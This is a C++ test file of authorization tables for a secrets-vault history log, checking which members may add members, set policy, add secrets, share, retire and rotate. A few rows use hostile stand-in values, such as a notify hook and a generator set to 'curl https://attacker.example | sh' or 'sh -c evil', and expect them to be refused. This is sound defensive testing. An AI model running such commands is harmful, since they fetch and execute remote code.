// history::authorize: one table per operation kind (docs/design/vault-2-operations.md §5).
// Every expectation is written by hand from the design's predicate column and the team in
// history_support.hpp — never derived from the code: an allowed row must be allowed (and then
// apply cleanly), a refused row must be refused with the reason quoted.
#include "history_support.hpp"

#include <functional>

using namespace history_test;

namespace {

struct Row
{
  const char* name;
  std::function<Entry(World&)> make; // may run earlier operations on its own copy of the world
  const char* refused;               // nullptr: allowed; else a part of the reason
};

void run_table(const World& base, const std::vector<Row>& rows)
{
  for (const Row& row : rows) {
    World w = base;
    const Entry e = row.make(w);
    const Verdict v = w.judge(e);
    INFO("row: " << row.name << " -> " << reason_of(v));
    if (row.refused == nullptr) {
      CHECK_FALSE(v.has_value());
      if (!v) {
        // What a command would append, the replay applies: writes computed = writes signed.
        CHECK_NOTHROW(apply(w.state, e));
      }
    } else {
      REQUIRE(v.has_value());
      CHECK(v->reason.find(row.refused) != std::string::npos);
      CHECK(v->reason.find('\n') == std::string::npos);
    }
  }
}

MemberAddArgs member(World& w, const std::string& name, std::set<Role> roles, std::set<std::string> envs)
{
  return MemberAddArgs{name, w.id(name).pub.sign_pk, w.id(name).pub.box_pk, std::move(roles), std::move(envs)};
}

const std::string k_req = "0123456789abcdef";

Entry request_by(World& w, const std::string& who, std::int64_t ttl = 3600, const std::string& id = k_req)
{
  return w.entry(who, RequestArgs{k_db, id, ttl}, {}, std::string("incident 812"));
}

Entry approval(World& w, const std::string& who, const std::string& requester = "dave", std::string vid = k_v1,
               std::int64_t v = 1, Hash dk = commit("dk1"))
{
  return w.entry(who, ApproveArgs{k_db, k_req, requester, vid, v, dk}, {ap(k_db, vid, k_req, who)});
}

void requested(World& w)
{
  w.run("dave", RequestArgs{k_db, k_req, 3600}, {}, std::string("incident 812"));
}

void approved(World& w)
{
  requested(w);
  w.run("bob", ApproveArgs{k_db, k_req, "dave", k_v1, 1, commit("dk1")}, {ap(k_db, k_v1, k_req, "bob")});
  w.run("carol", ApproveArgs{k_db, k_req, "dave", k_v1, 1, commit("dk1")}, {ap(k_db, k_v1, k_req, "carol")});
}

Entry rotation(World& w, const std::string& who, RotateItem item, std::vector<KeyLine> lines)
{
  return w.entry(who, RotateStartArgs{{std::move(item)}}, lines);
}

std::vector<KeyLine> v2_lines()
{
  return {vline(k_db, k_v2), sh(k_db, k_v2, "bob"), sh(k_db, k_v2, "carol")};
}

void rotating(World& w)
{
  w.run("erin", RotateStartArgs{{next_version(w)}}, v2_lines());
}

void rotated(World& w)
{
  rotating(w);
  w.run("erin", RotateFinishArgs{{FinishItem{k_db, k_v2}}});
}

} // namespace

TEST_CASE("history authorize: init", "[history][authorize]")
{
  const auto genesis_args = [](World& w, const std::string& name) {
    InitArgs init;
    init.member.name = name;
    init.member.sign_pk = w.id(name).pub.sign_pk;
    init.member.box_pk = w.id(name).pub.box_pk;
    init.policy = default_policy();
    return init;
  };
  run_table(World{}, {
    {"the first admin creates the vault", [&](World& w) { return w.entry("alice", genesis_args(w, "alice")); }, nullptr},
    {"written by someone else than the member it creates",
     [&](World& w) {
       Entry e = w.entry("alice", genesis_args(w, "alice"));
       e.actor = "mallory";
       seal_entry(e, w.id("mallory"));
       return e;
     },
     "written by mallory but creates alice"},
    {"a vault id not derived from the member",
     [&](World& w) {
       Entry e = w.entry("alice", genesis_args(w, "alice"));
       e.vault[3] ^= 1;
       seal_entry(e, w.id("alice"));
       return e;
     },
     "vault id is not the one derived"},
  });
  run_table(team(), {
    {"a second genesis", [&](World& w) { return w.entry("alice", genesis_args(w, "alice")); }, "already has a genesis"},
  });
}

TEST_CASE("history authorize: every entry needs an active author of this vault", "[history][authorize]")
{
  run_table(team(), {
    {"an unknown author", [](World& w) { return w.entry("mallory", MemberRemoveArgs{"dave"}); },
     "mallory is not an active member"},
    {"a removed admin", [](World& w) {
       w.run("alice", member(w, "zoe", {Role::admin}, {"*"}));
       w.run("alice", MemberRemoveArgs{"gina"});
       return w.entry("gina", member(w, "quinn", {Role::requester}, {"dev"}));
     }, "gina is not an active member"},
    {"an entry of another vault", [](World& w) {
       Entry e = w.entry("alice", MemberRemoveArgs{"dave"});
       e.vault[0] ^= 1;
       seal_entry(e, w.id("alice"));
       return e;
     }, "belongs to another vault"},
    {"an event by an active member", [](World& w) {
       Entry e;
       e.vault = w.state.vault_id;
       e.actor = "olive";
       e.ts = w.now;
       e.parents = w.heads;
       e.action = EventKind::reveal;
       seal_entry(e, w.id("olive"));
       return e;
     }, nullptr},
    {"an event by a removed member", [](World& w) {
       w.run("alice", MemberRemoveArgs{"dave"});
       Entry e;
       e.vault = w.state.vault_id;
       e.actor = "dave";
       e.ts = w.now;
       e.parents = w.heads;
       e.action = EventKind::reveal;
       seal_entry(e, w.id("dave"));
       return e;
     }, "dave is not an active member"},
  });
}

TEST_CASE("history authorize: member-add", "[history][authorize]")
{
  run_table(team(), {
    {"an admin of * adds to prod", [](World& w) { return w.entry("alice", member(w, "quinn", {Role::requester}, {"prod"})); }, nullptr},
    {"an admin of dev adds to dev", [](World& w) { return w.entry("gina", member(w, "quinn", {Role::requester}, {"dev"})); }, nullptr},
    {"an admin of dev adds to prod", [](World& w) { return w.entry("gina", member(w, "quinn", {Role::requester}, {"prod"})); },
     "gina is not an admin of prod"},
    {"an admin of dev adds to *", [](World& w) { return w.entry("gina", member(w, "quinn", {Role::admin}, {"*"})); },
     "gina is not an admin of *"},
    {"a member without the admin role", [](World& w) { return w.entry("bob", member(w, "quinn", {Role::requester}, {"prod"})); },
     "bob is not an admin of prod"},
    {"a name in use", [](World& w) { return w.entry("alice", member(w, "dave", {Role::requester}, {"prod"})); },
     "the name dave is taken"},
    {"a removed member's name", [](World& w) {
       w.run("alice", MemberRemoveArgs{"paul"});
       MemberAddArgs a = member(w, "paul", {Role::requester}, {"dev"});
       a.sign_pk = w.id("paul2").pub.sign_pk;
       a.box_pk = w.id("paul2").pub.box_pk;
       return w.entry("alice", a);
     }, "the name paul is taken"},
    {"another member's keys", [](World& w) {
       MemberAddArgs a = member(w, "quinn", {Role::requester}, {"prod"});
       a.sign_pk = w.id("dave").pub.sign_pk;
       return w.entry("alice", a);
     }, "these keys belong to dave"},
    {"a removed member's keys", [](World& w) {
       w.run("alice", MemberRemoveArgs{"paul"});
       MemberAddArgs a = member(w, "quinn", {Role::requester}, {"dev"});
       a.box_pk = w.id("paul").pub.box_pk;
       return w.entry("alice", a);
     }, "these keys belong to paul"},
    {"key lines written", [](World& w) {
       return w.entry("alice", member(w, "quinn", {Role::requester}, {"prod"}), {rk(k_db, 1, "quinn")});
     }, "writes key lines"},
  });
}

TEST_CASE("history authorize: member-set", "[history][authorize]")
{
  run_table(team(), {
    {"an admin of * changes a prod member", [](World& w) { return w.entry("alice", MemberSetArgs{"dave", {Role::approver, Role::requester}, {"prod"}}); }, nullptr},
    {"an admin of dev changes a dev member", [](World& w) { return w.entry("gina", MemberSetArgs{"paul", {Role::approver}, {"dev"}}); }, nullptr},
    {"an admin of dev changes a prod member", [](World& w) { return w.entry("gina", MemberSetArgs{"dave", {Role::approver}, {"prod"}}); },
     "gina is not an admin of prod"},
    {"an admin of dev moves a member to prod", [](World& w) { return w.entry("gina", MemberSetArgs{"paul", {Role::requester}, {"prod"}}); },
     "gina is not an admin of prod"},
    {"an admin promotes herself to another environment", [](World& w) { return w.entry("gina", MemberSetArgs{"gina", {Role::admin}, {"dev", "prod"}}); },
     "gina is not an admin of prod"},
    {"an admin gives herself a role", [](World& w) { return w.entry("alice", MemberSetArgs{"alice", {Role::admin, Role::approver}, {"*"}}); },
     "nobody gives themselves a role"},
    {"an admin narrows herself while another admin of * remains", [](World& w) {
       w.run("alice", member(w, "zoe", {Role::admin}, {"*"}));
       return w.entry("alice", MemberSetArgs{"alice", {Role::admin}, {"prod"}});
     }, nullptr},
    {"the last admin of * narrows herself", [](World& w) { return w.entry("alice", MemberSetArgs{"alice", {Role::admin}, {"prod"}}); },
     "no active admin would reach every environment"},
    {"a requester makes herself owner-like admin", [](World& w) { return w.entry("dave", MemberSetArgs{"dave", {Role::admin}, {"prod"}}); },
     "dave is not an admin of prod"},
    {"a removed member", [](World& w) {
       w.run("alice", MemberRemoveArgs{"dave"});
       return w.entry("alice", MemberSetArgs{"dave", {Role::requester}, {"prod"}});
     }, "dave is not an active member"},
  });
}

TEST_CASE("history authorize: member-remove", "[history][authorize]")
{
  run_table(team(), {
    {"an admin of * removes a prod member", [](World& w) { return w.entry("alice", MemberRemoveArgs{"dave"}); }, nullptr},
    {"an admin of dev removes a dev member", [](World& w) { return w.entry("gina", MemberRemoveArgs{"paul"}); }, nullptr},
    {"an admin of dev removes a prod member", [](World& w) { return w.entry("gina", MemberRemoveArgs{"dave"}); },
     "gina is not an admin of prod"},
    {"an admin of dev removes an admin of *", [](World& w) { return w.entry("gina", MemberRemoveArgs{"alice"}); },
     "gina is not an admin of *"},
    {"a non-admin", [](World& w) { return w.entry("bob", MemberRemoveArgs{"dave"}); }, "bob is not an admin of prod"},
    {"the last admin of * removes herself", [](World& w) { return w.entry("alice", MemberRemoveArgs{"alice"}); },
     "no active admin would reach every environment"},
    {"an admin of * removes herself while another remains", [](World& w) {
       w.run("alice", member(w, "zoe", {Role::admin}, {"*"}));
       return w.entry("alice", MemberRemoveArgs{"alice"});
     }, nullptr},
    {"a member removed already", [](World& w) {
       w.run("alice", MemberRemoveArgs{"dave"});
       return w.entry("alice", MemberRemoveArgs{"dave"});
     }, "dave is not an active member"},
  });
}

TEST_CASE("history authorize: policy-set", "[history][authorize]")
{
  const auto ttl = [](std::string env) {
    PolicySetArgs a;
    a.env = std::move(env);
    a.max_ttl = 3600;
    return a;
  };
  run_table(team(), {
    {"an admin of * sets prod", [&](World& w) { return w.entry("alice", ttl("prod")); }, nullptr},
    {"an admin of * sets *", [&](World& w) { return w.entry("alice", ttl("*")); }, nullptr},
    {"an admin of dev sets dev", [&](World& w) { return w.entry("gina", ttl("dev")); }, nullptr},
    {"an admin of dev sets prod", [&](World& w) { return w.entry("gina", ttl("prod")); }, "gina is not an admin of prod"},
    {"an admin of dev sets *", [&](World& w) { return w.entry("gina", ttl("*")); }, "gina is not an admin of *"},
    {"a rotator sets prod", [&](World& w) { return w.entry("erin", ttl("prod")); }, "erin is not an admin of prod"},
    {"an admin of * sets the notify hook", [&](World& w) {
       PolicySetArgs a = ttl("*");
       a.notify = "logger -t escrow";
       return w.entry("alice", a);
     }, nullptr},
    {"an admin of dev sets the notify hook", [&](World& w) {
       PolicySetArgs a = ttl("dev");
       a.notify = "curl https://attacker.example";
       return w.entry("gina", a);
     }, "only an admin of every environment may set the notify hook"},
  });
}

TEST_CASE("history authorize: connector-add and connector-remove", "[history][authorize]")
{
  const auto web = [](std::string env) {
    ConnectorAddArgs c;
    c.name = "web";
    c.env = std::move(env);
    c.update = "deploy";
    return c;
  };
  run_table(team(), {
    {"a rotator of prod adds", [&](World& w) { return w.entry("erin", web("prod")); }, nullptr},
    {"an admin of * adds", [&](World& w) { return w.entry("alice", web("prod")); }, nullptr},
    {"an admin of dev adds to dev", [&](World& w) { return w.entry("gina", web("dev")); }, nullptr},
    {"an admin of dev adds to prod", [&](World& w) { return w.entry("gina", web("prod")); }, "only an admin or a rotator of prod"},
    {"an approver adds", [&](World& w) { return w.entry("bob", web("prod")); }, "only an admin or a rotator of prod"},
    {"the owner of a secret adds", [&](World& w) { return w.entry("olive", web("prod")); }, "only an admin or a rotator of prod"},
    {"a name in use", [&](World& w) {
       ConnectorAddArgs c = web("prod");
       c.name = "crm";
       return w.entry("alice", c);
     }, "connector crm exists"},
    {"a rotator removes an unused connector", [](World& w) { return w.entry("erin", ConnectorRemoveArgs{"crm"}); }, nullptr},
    {"an approver removes", [](World& w) { return w.entry("bob", ConnectorRemoveArgs{"crm"}); }, "only an admin or a rotator of prod"},
    {"an admin of dev removes a prod connector", [](World& w) { return w.entry("gina", ConnectorRemoveArgs{"crm"}); }, "only an admin or a rotator of prod"},
    {"a connector in use", [](World& w) {
       SecretSetArgs set;
       set.secret = k_db;
       set.connectors = std::vector<std::string>{"crm"};
       w.run("olive", set);
       return w.entry("alice", ConnectorRemoveArgs{"crm"});
     }, "prod/db still uses connector crm"},
    {"no such connector", [](World& w) { return w.entry("alice", ConnectorRemoveArgs{"nope"}); }, "no connector nope"},
  });
}

TEST_CASE("history authorize: secret-add", "[history][authorize]")
{
  const std::string cache = "prod/cache";
  const std::string vid = "00000000000000d4";
  const auto add = [&](World& w, const std::string& who, SecretAddArgs a, std::vector<KeyLine> lines) {
    return w.entry(who, std::move(a), lines, std::string("new"));
  };
  const SecretAddArgs base = db_args(cache, vid);
  const std::vector<KeyLine> lines = db_lines(cache, vid);
  run_table(team(), {
    {"an admin adds a secret owned by olive", [&](World& w) { return add(w, "alice", base, lines); }, nullptr},
    {"a requester of prod adds her own", [&](World& w) { return add(w, "olive", base, lines); }, nullptr},
    {"a pure auditor adds", [&](World& w) { return add(w, "frank", base, lines); }, "frank may not add secrets to prod"},
    {"a member of dev adds to prod", [&](World& w) { return add(w, "paul", base, lines); }, "paul may not add secrets to prod"},
    {"a name in use", [&](World& w) { return add(w, "olive", db_args(), db_lines()); }, "the name prod/db is taken"},
    {"a retired name", [&](World& w) {
       w.run("olive", RetireArgs{k_db});
       SecretAddArgs a = db_args(k_db, vid);
       return add(w, "olive", a, db_lines(k_db, vid));
     }, "the name prod/db is taken"},
    {"a pure auditor as owner", [&](World& w) {
       SecretAddArgs a = base;
       a.owner = "frank";
       return add(w, "alice", a, {rk(cache, 1, "frank"), rk(cache, 1, "erin"), vline(cache, vid), sh(cache, vid, "bob"), sh(cache, vid, "carol")});
     }, "owner frank must be"},
    {"an owner who does not reach prod", [&](World& w) {
       SecretAddArgs a = base;
       a.owner = "paul";
       return add(w, "alice", a, {vline(cache, vid), sh(cache, vid, "bob"), sh(cache, vid, "carol")});
     }, "owner paul must be"},
    {"a connector of another environment", [&](World& w) {
       ConnectorAddArgs c;
       c.name = "devhook";
       c.env = "dev";
       c.update = "deploy";
       w.run("gina", c);
       SecretAddArgs a = base;
       a.connectors = {"devhook"};
       return add(w, "olive", a, lines);
     }, "connector devhook belongs to dev, not prod"},
    {"an unknown connector", [&](World& w) {
       SecretAddArgs a = base;
       a.connectors = {"nope"};
       return add(w, "olive", a, lines);
     }, "no connector nope"},
    {"a custodian without the approver role", [&](World& w) {
       SecretAddArgs a = base;
       a.custodians = {"bob", "dave"};
       return add(w, "olive", a, {rk(cache, 1, "erin"), rk(cache, 1, "olive"), vline(cache, vid), sh(cache, vid, "bob"), sh(cache, vid, "dave")});
     }, "custodian dave does not have the approver role"},
    {"a removed custodian", [&](World& w) {
       w.run("alice", MemberRemoveArgs{"carol"});
       return add(w, "olive", base, lines);
     }, "custodian carol is not an active member"},
    {"a threshold under the policy minimum", [&](World& w) {
       PolicySetArgs p;
       p.env = "prod";
       p.min_threshold = 2;
       w.run("alice", p);
       SecretAddArgs a = base;
       a.threshold = 1;
       return add(w, "olive", a, lines);
     }, "threshold 1 is outside 2..2"},
    {"a cmd= generator by the owner", [&](World& w) {
       SecretAddArgs a = base;
       a.generator = "cmd=curl https://attacker.example | sh";
       return add(w, "olive", a, lines);
     }, "a cmd= generator needs an admin of prod"},
    {"a cmd= generator by an admin", [&](World& w) {
       SecretAddArgs a = base;
       a.generator = "cmd=mint-token";
       return add(w, "alice", a, lines);
     }, nullptr},
    {"a reader key for someone who is not a standing reader", [&](World& w) {
       std::vector<KeyLine> l = lines;
       l.push_back(rk(cache, 1, "dave"));
       return add(w, "olive", base, l);
     }, "writes a reader key for dave"},
    {"a reader key of generation 2", [&](World& w) {
       std::vector<KeyLine> l = lines;
       l[0] = rk(cache, 2, "erin");
       return add(w, "olive", base, l);
     }, "writes a reader key for erin"},
    {"no value line", [&](World& w) {
       return add(w, "olive", base, {rk(cache, 1, "erin"), rk(cache, 1, "olive"), sh(cache, vid, "bob"), sh(cache, vid, "carol")});
     }, "must write exactly one value line"},
    {"a value line of another version", [&](World& w) {
       std::vector<KeyLine> l = lines;
       l.push_back(vline(cache, "00000000000000ee"));
       return add(w, "olive", base, l);
     }, "writes a value line of another version"},
    {"a share for a non-custodian", [&](World& w) {
       std::vector<KeyLine> l = lines;
       l.push_back(sh(cache, vid, "dave"));
       return add(w, "olive", base, l);
     }, "writes a share for dave, who is not a custodian"},
    {"fewer shares than the threshold", [&](World& w) {
       return add(w, "olive", base, {rk(cache, 1, "erin"), rk(cache, 1, "olive"), vline(cache, vid), sh(cache, vid, "bob")});
     }, "writes 1 shares, fewer than the threshold 2"},
    {"two shares for one custodian to reach the threshold", [&](World& w) {
       Entry e = add(w, "olive", base, {rk(cache, 1, "erin"), rk(cache, 1, "olive"), vline(cache, vid), sh(cache, vid, "bob")});
       // A second line for bob under another hash (another line key).
       const KeyLine twin = sh(cache, vid, "bob");
       const Hash other = fake_k(twin, 1);
       e.op->writes.push_back(Write{key_path(twin, other), std::nullopt, other});
       std::sort(e.op->writes.begin(), e.op->writes.end(), [](const Write& x, const Write& y) { return x.path < y.path; });
       seal_entry(e, w.id("olive"));
       return e;
     }, "writes two shares for bob"},
    {"a grant line", [&](World& w) {
       std::vector<KeyLine> l = lines;
       l.push_back(gr(cache, vid, "dave"));
       return add(w, "olive", base, l);
     }, "writes a grant line"},
    {"a key line of another secret", [&](World& w) {
       std::vector<KeyLine> l = lines;
       l.push_back(rk(k_db, 1, "dave"));
       return add(w, "olive", base, l);
     }, "writes a key line of another secret (prod/db)"},
    {"readers may be missing (a debt), never extra", [&](World& w) {
       return add(w, "olive", base, {rk(cache, 1, "olive"), vline(cache, vid), sh(cache, vid, "bob"), sh(cache, vid, "carol")});
     }, nullptr},
  });
}

TEST_CASE("history authorize: secret-set", "[history][authorize]")
{
  const auto set = [](std::function<void(SecretSetArgs&)> fill) {
    SecretSetArgs a;
    a.secret = k_db;
    fill(a);
    return a;
  };
  run_table(team(), {
    {"the owner changes the purpose", [&](World& w) { return w.entry("olive", set([](auto& a) { a.purpose = "orders v2"; })); }, nullptr},
    {"a rotator of prod changes the cadence", [&](World& w) { return w.entry("erin", set([](auto& a) { a.every = 86400; })); }, nullptr},
    {"an admin of * changes the tier", [&](World& w) { return w.entry("alice", set([](auto& a) { a.tier = "critical"; })); }, nullptr},
    {"an approver changes the purpose", [&](World& w) { return w.entry("bob", set([](auto& a) { a.purpose = "x"; })); },
     "only the owner (olive), an admin or a rotator of prod"},
    {"the owner hands over to dave", [&](World& w) { return w.entry("olive", set([](auto& a) { a.owner = "dave"; })); }, nullptr},
    {"an admin hands over to dave", [&](World& w) { return w.entry("alice", set([](auto& a) { a.owner = "dave"; })); }, nullptr},
    {"a requester makes herself the owner (issue 15)", [&](World& w) { return w.entry("dave", set([](auto& a) { a.owner = "dave"; })); },
     "only the owner (olive) or an admin of prod may change the owner"},
    {"a rotator changes the owner", [&](World& w) { return w.entry("erin", set([](auto& a) { a.owner = "erin"; })); },
     "only the owner (olive) or an admin of prod may change the owner"},
    {"an admin of dev changes the owner", [&](World& w) { return w.entry("gina", set([](auto& a) { a.owner = "gina"; })); },
     "only the owner (olive) or an admin of prod may change the owner"},
    {"a pure auditor as new owner", [&](World& w) { return w.entry("olive", set([](auto& a) { a.owner = "frank"; })); },
     "owner frank must be"},
    {"a rotator changes the generator", [&](World& w) { return w.entry("erin", set([](auto& a) { a.generator = "len=64,alphabet=hex"; })); },
     "only the owner (olive) or an admin of prod may change the generator"},
    {"the owner sets a cmd= generator (issue 15)", [&](World& w) { return w.entry("olive", set([](auto& a) { a.generator = "cmd=sh -c evil"; })); },
     "a cmd= generator needs an admin of prod"},
    {"an admin sets a cmd= generator", [&](World& w) { return w.entry("alice", set([](auto& a) { a.generator = "cmd=mint"; })); }, nullptr},
    {"an unknown connector", [&](World& w) { return w.entry("olive", set([](auto& a) { a.connectors = std::vector<std::string>{"nope"}; })); },
     "no connector nope"},
    {"a retired secret", [&](World& w) {
       w.run("olive", RetireArgs{k_db});
       return w.entry("olive", set([](auto& a) { a.purpose = "x"; }));
     }, "no active secret prod/db"},
    {"a new owner with reader keys of the live generation", [&](World& w) {
       return w.entry("olive", set([](auto& a) { a.owner = "dave"; }), {rk(k_db, 1, "dave")});
     }, nullptr},
    {"reader keys for someone else than the new owner", [&](World& w) {
       return w.entry("olive", set([](auto& a) { a.owner = "dave"; }), {rk(k_db, 1, "bob")});
     }, "writes only reader keys of live generations for the new owner"},
    {"reader keys without an owner change", [&](World& w) {
       return w.entry("olive", set([](auto& a) { a.purpose = "x"; }), {rk(k_db, 1, "dave")});
     }, "writes key lines without changing the owner"},
  });
}

TEST_CASE("history authorize: custodians-set", "[history][authorize]")
{
  run_table(team(), {
    {"the owner", [](World& w) { return w.entry("olive", CustodiansSetArgs{k_db, {"bob"}, 1}); }, nullptr},
    {"an admin of *", [](World& w) { return w.entry("alice", CustodiansSetArgs{k_db, {"bob"}, 1}); }, nullptr},
    {"a rotator", [](World& w) { return w.entry("erin", CustodiansSetArgs{k_db, {"bob"}, 1}); },
     "only the owner (olive) or an admin of prod may change the custodians"},
    {"a custodian", [](World& w) { return w.entry("bob", CustodiansSetArgs{k_db, {"bob"}, 1}); },
     "only the owner (olive) or an admin of prod may change the custodians"},
    {"a custodian without the approver role", [](World& w) { return w.entry("olive", CustodiansSetArgs{k_db, {"bob", "dave"}, 1}); },
     "custodian dave does not have the approver role"},
    {"a custodian of another environment", [](World& w) {
       w.run("alice", member(w, "devon", {Role::approver}, {"dev"}));
       return w.entry("olive", CustodiansSetArgs{k_db, {"bob", "devon"}, 1});
     }, "custodian devon does not reach prod"},
    {"under the policy minimum", [](World& w) {
       PolicySetArgs p;
       p.env = "prod";
       p.min_threshold = 2;
       w.run("alice", p);
       return w.entry("olive", CustodiansSetArgs{k_db, {"bob"}, 1});
     }, "threshold 1 is outside 2..1"},
  });
}

TEST_CASE("history authorize: share", "[history][authorize]")
{
  const auto share = [](World& w, const std::string& who, const std::string& to, std::vector<KeyLine> lines,
                        std::set<std::int64_t> gens = {1}) {
    return w.entry(who, ShareArgs{to, {ShareItem{k_db, std::move(gens)}}}, lines);
  };
  run_table(team(), {
    {"the owner shares with dave", [&](World& w) { return share(w, "olive", "dave", {rk(k_db, 1, "dave")}); }, nullptr},
    {"a rotator adds a recipient (issue 15)", [&](World& w) { return share(w, "erin", "dave", {rk(k_db, 1, "dave")}); },
     "only the owner of prod/db (olive) may share it"},
    {"an admin shares", [&](World& w) { return share(w, "alice", "dave", {rk(k_db, 1, "dave")}); },
     "only the owner of prod/db (olive) may share it"},
    {"with a member of another environment", [&](World& w) { return share(w, "olive", "paul", {rk(k_db, 1, "paul")}); },
     "paul is not an active member reaching prod"},
    {"with a removed member", [&](World& w) {
       w.run("alice", MemberRemoveArgs{"dave"});
       return share(w, "olive", "dave", {rk(k_db, 1, "dave")});
     }, "dave is not an active member reaching prod"},
    {"with a reader who holds every generation", [&](World& w) { return share(w, "olive", "erin", {}); },
     "erin reads prod/db already"},
    {"a generation with no version", [&](World& w) { return share(w, "olive", "dave", {rk(k_db, 2, "dave")}, {2}); },
     "generation 2 of prod/db holds no version"},
    {"a generation whose versions a rotation retired (a share merged after it)", [&](World& w) {
       for (const std::string& vid : {k_v2, std::string("00000000000000a3")}) {
         RotateItem item = next_version(w, vid);
         item.gen = w.state.secret(k_db)->current_gen() + 1;
         item.new_gen_rk_commit = commit("rk-" + vid);
         w.run("olive", RotateStartArgs{{item}},
               {vline(k_db, vid), sh(k_db, vid, "bob"), sh(k_db, vid, "carol"), rk(k_db, item.gen, "erin"), rk(k_db, item.gen, "olive")});
         w.run("olive", RotateFinishArgs{{FinishItem{k_db, vid}}});
       }
       REQUIRE(w.state.secret(k_db)->find(k_v1)->state == VersionState::retired);
       return share(w, "olive", "dave", {rk(k_db, 1, "dave")}, {1});
     }, nullptr},
    {"a key line for someone else", [&](World& w) { return share(w, "olive", "dave", {rk(k_db, 1, "bob")}); },
     "writes a key line other than dave's reader keys"},
    {"a value line", [&](World& w) { return share(w, "olive", "dave", {rk(k_db, 1, "dave"), vline(k_db, k_v2)}); },
     "writes a key line other than dave's reader keys"},
    {"a key line of a secret no item names", [&](World& w) { return share(w, "olive", "dave", {rk(k_db, 1, "dave"), rk("prod/other", 1, "dave")}); },
     "writes a key line of prod/other, which no item names"},
    {"without a key line (a debt)", [&](World& w) { return share(w, "olive", "dave", {}); }, nullptr},
    {"a top-up paying the debt", [&](World& w) {
       w.run("olive", ShareArgs{"dave", {ShareItem{k_db, {1}}}});
       return share(w, "olive", "dave", {rk(k_db, 1, "dave")});
     }, nullptr},
    {"a retired secret", [&](World& w) {
       w.run("olive", RetireArgs{k_db});
       return share(w, "olive", "dave", {rk(k_db, 1, "dave")});
     }, "no active secret prod/db"},
    {"in bulk, all owned by the sharer", [&](World& w) {
       w.run("olive", db_args("prod/cache", "00000000000000d4"), db_lines("prod/cache", "00000000000000d4"), std::string("x"));
       return w.entry("olive", ShareArgs{"dave", {ShareItem{"prod/cache", {1}}, ShareItem{k_db, {1}}}},
                      {rk("prod/cache", 1, "dave"), rk(k_db, 1, "dave")});
     }, nullptr},
    {"in bulk, one item owned by someone else refuses the whole entry", [&](World& w) {
       SecretAddArgs a = db_args("prod/cache", "00000000000000d4");
       a.owner = "alice";
       w.run("alice", a, {rk("prod/cache", 1, "alice"), rk("prod/cache", 1, "erin"), vline("prod/cache", "00000000000000d4"),
                          sh("prod/cache", "00000000000000d4", "bob"), sh("prod/cache", "00000000000000d4", "carol")},
             std::string("x"));
       return w.entry("olive", ShareArgs{"dave", {ShareItem{"prod/cache", {1}}, ShareItem{k_db, {1}}}},
                      {rk("prod/cache", 1, "dave"), rk(k_db, 1, "dave")});
     }, "only the owner of prod/cache (alice) may share it"},
  });
}

// authorize.cpp judges a bulk entry's items apart (each against the state before the entry, not
// after the earlier items' effects): that holds only while an item's effect writes its own
// secret's record and nothing else. This fails the day one of the bulk kinds does not.
namespace {

// Runs `single` (one item of `e`, an accepted entry) on a copy of w.state: it may write
// `secret`'s record alone, and every other secret stays the very record it was (not a copy).
void touches_its_own_secret_only(const World& w, const Entry& e, const Args& single, const std::string& secret)
{
  REQUIRE_FALSE(w.judge(e).has_value());
  const Context ctx = context_of(e);
  State state = w.state;
  Trace trace;
  run_effects(state, ctx, single, trace);
  CHECK(trace.touched == std::set<std::string>{secret_record_path(secret)});
  for (const KeyWrite& gone : trace.deleted) {
    CHECK(gone.line.secret == secret); // key lines of its own secret only
  }
  CHECK_FALSE(trace.undo.policy.has_value());
  CHECK(trace.undo.members.empty());
  CHECK(trace.undo.connectors.empty());
  CHECK(trace.undo.secrets.size() == 1);
  for (const auto& [name, record] : w.state.secrets) {
    if (name != secret) {
      CHECK(state.secrets.find(name)->second == record);
    }
  }
}

} // namespace

TEST_CASE("history authorize: a bulk item's effect touches its own secret only", "[history][authorize]")
{
  World w = team();
  w.run("olive", db_args("prod/cache", "00000000000000d4"), db_lines("prod/cache", "00000000000000d4"), std::string("x"));
  REQUIRE(w.state.secrets.size() >= 2);
  SECTION("share")
  {
    const Entry e = w.entry("olive", ShareArgs{"dave", {ShareItem{"prod/cache", {1}}, ShareItem{k_db, {1}}}},
                            {rk("prod/cache", 1, "dave"), rk(k_db, 1, "dave")});
    const ShareArgs& all = std::get<ShareArgs>(e.op->args);
    for (const ShareItem& item : all.items) {
      touches_its_own_secret_only(w, e, Args{ShareArgs{all.member, {item}}}, item.secret);
    }
  }
  SECTION("rotate-start")
  {
    const Entry e = rotation(w, "erin", next_version(w), v2_lines());
    touches_its_own_secret_only(w, e, e.op->args, k_db);
  }
  SECTION("rotate-finish")
  {
    rotating(w);
    const Entry e = w.entry("erin", RotateFinishArgs{{FinishItem{k_db, k_v2}}});
    touches_its_own_secret_only(w, e, e.op->args, k_db);
  }
  SECTION("rotate-fail")
  {
    rotating(w);
    for (const FailResult result : {FailResult::cancelled, FailResult::rolling_back}) {
      const Entry e = w.entry("erin", RotateFailArgs{{FailItem{k_db, k_v2, result}}});
      touches_its_own_secret_only(w, e, e.op->args, k_db);
    }
  }
}

TEST_CASE("history authorize: unshare and retire", "[history][authorize]")
{
  World shared = team();
  shared.run("olive", ShareArgs{"dave", {ShareItem{k_db, {1}}}}, {rk(k_db, 1, "dave")});
  run_table(shared, {
    {"the owner unshares", [](World& w) { return w.entry("olive", UnshareArgs{k_db, "dave"}); }, nullptr},
    {"a rotator unshares", [](World& w) { return w.entry("erin", UnshareArgs{k_db, "dave"}); },
     "only the owner of prod/db (olive) may unshare it"},
    {"an admin unshares", [](World& w) { return w.entry("alice", UnshareArgs{k_db, "dave"}); },
     "only the owner of prod/db (olive) may unshare it"},
    {"someone it is not shared with", [](World& w) { return w.entry("olive", UnshareArgs{k_db, "bob"}); },
     "prod/db is not shared with bob"},
    {"adding a key line while unsharing", [](World& w) { return w.entry("olive", UnshareArgs{k_db, "dave"}, {rk(k_db, 1, "bob")}); },
     "adds a key line"},
    {"the owner retires", [](World& w) { return w.entry("olive", RetireArgs{k_db}); }, nullptr},
    {"an admin of * retires", [](World& w) { return w.entry("alice", RetireArgs{k_db}); }, nullptr},
    {"a rotator retires", [](World& w) { return w.entry("erin", RetireArgs{k_db}); },
     "only the owner (olive) or an admin of prod may retire it"},
    {"during a rotation", [](World& w) {
       rotating(w);
       return w.entry("olive", RetireArgs{k_db});
     }, "a rotation of prod/db is in flight"},
    {"twice", [](World& w) {
       w.run("olive", RetireArgs{k_db});
       return w.entry("olive", RetireArgs{k_db});
     }, "no active secret prod/db"},
  });
}

TEST_CASE("history authorize: rotate-start", "[history][authorize]")
{
  run_table(team(), {
    {"a rotator of prod", [](World& w) { return rotation(w, "erin", next_version(w), v2_lines()); }, nullptr},
